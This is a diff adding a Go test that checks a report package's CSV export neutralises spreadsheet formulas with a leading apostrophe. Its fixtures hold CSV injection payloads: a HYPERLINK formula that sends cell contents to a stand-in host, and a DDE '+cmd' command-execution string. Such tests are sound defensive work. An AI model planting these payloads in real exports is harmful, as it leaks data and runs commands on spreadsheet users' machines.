@@ -2,6 +2,7 @@ package report_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"fmt"
 	"io"
 	"os"
@@ -166,6 +167,77 @@ func BenchmarkPDFLongWord(b *testing.B) {
 					}
 				}
 			})
+		}
+	}
+}
+
+// Cells a spreadsheet would run as formulas are neutralised with a leading
+// apostrophe unless the report asks for raw cells; every row's settings say
+// which was done.
+func TestHostileCSVFormulas(t *testing.T) {
+	hostile := func(settings ...report.Setting) *report.Archive {
+		m := archiveModel()
+		m.Provenance.Settings = append(m.Provenance.Settings, settings...)
+		m.Articles[0].Title = `=HYPERLINK("http://x.example/?"&A1,"click")`
+		m.Articles[0].Outlet = "+cmd|' /C calc'!A0"
+		m.Articles[1].Title = "@SUM(1+1)"
+		m.Articles[1].Outlet = "-2+3"
+		m.Articles[1].Files[0].Path = "\t=1+1"
+		m.Articles[2].Language = "\r=1"
+		return m
+	}
+	cells := func(m *report.Archive) (map[string]string, []string) {
+		recs, err := csv.NewReader(bytes.NewReader(write(t, m, report.CSV))).ReadAll()
+		if err != nil {
+			t.Fatal(err)
+		}
+		head := recs[0]
+		col := func(name string) int {
+			for i, h := range head {
+				if h == name {
+					return i
+				}
+			}
+			t.Fatalf("no column %s", name)
+			return -1
+		}
+		got := map[string]string{
+			"title1": recs[1][col("title")], "outlet1": recs[1][col("outlet")], "title2": recs[2][col("title")],
+			"outlet2": recs[2][col("outlet")], "files2": recs[2][col("files")], "language3": recs[3][col("language")],
+			"words1": recs[1][col("words")],
+		}
+		var settings []string
+		for _, r := range recs[1:] {
+			settings = append(settings, r[col("settings")])
+		}
+		return got, settings
+	}
+
+	got, settings := cells(hostile())
+	for k, want := range map[string]string{
+		"title1": `'=HYPERLINK("http://x.example/?"&A1,"click")`, "outlet1": "'+cmd|' /C calc'!A0",
+		"title2": "'@SUM(1+1)", "outlet2": "'-2+3", "files2": "'\t=1+1; /news/b.jsonl#3", "words1": "30",
+		// encoding/csv drops a carriage return inside a cell of a CRLF file;
+		// the apostrophe came first.
+		"language3": "'=1",
+	} {
+		if got[k] != want {
+			t.Errorf("default: %s = %q, want %q", k, got[k], want)
+		}
+	}
+	for _, s := range settings {
+		if !strings.Contains(s, "csv.formulas=neutralised") {
+			t.Errorf("default: settings %q do not say the formulas were neutralised", s)
+		}
+	}
+
+	got, settings = cells(hostile(report.Setting{Group: "csv", Name: report.CSVFormulas, Value: report.RawCSV}))
+	if got["title1"] != `=HYPERLINK("http://x.example/?"&A1,"click")` || got["files2"] != "\t=1+1; /news/b.jsonl#3" {
+		t.Errorf("raw: cells changed: %q", got)
+	}
+	for _, s := range settings {
+		if !strings.Contains(s, "csv.formulas=raw") {
+			t.Errorf("raw: settings %q do not say the cells are raw", s)
 		}
 	}
 }
